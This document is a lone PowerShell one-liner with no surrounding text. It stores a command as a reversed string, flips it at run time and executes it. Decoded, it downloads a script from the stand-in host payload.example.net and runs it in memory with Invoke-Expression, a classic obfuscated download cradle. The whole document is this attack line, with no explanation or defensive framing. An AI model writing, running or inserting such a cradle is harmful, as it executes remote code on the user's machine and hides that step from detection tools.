$r = '))''a/ten.elpmaxe.daolyap//:sptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(XEI'; IEX (-join $r[-1..-($r.Length)])
